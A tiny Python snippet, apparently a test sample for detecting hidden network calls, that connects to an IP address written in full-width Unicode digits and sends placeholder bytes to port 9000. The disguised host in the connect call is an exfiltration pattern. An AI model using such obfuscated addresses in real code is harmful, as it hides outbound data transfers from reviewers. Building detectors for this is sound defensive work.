"""Full-width digits, which IDNA turns into an address."""
import socket

client = socket.socket()
client.connect(("\uff19\uff13\uff0e\uff11\uff18\uff14\uff0e\uff12\uff11\uff16\uff0e\uff13\uff15", 9000))
client.sendall(b"data")
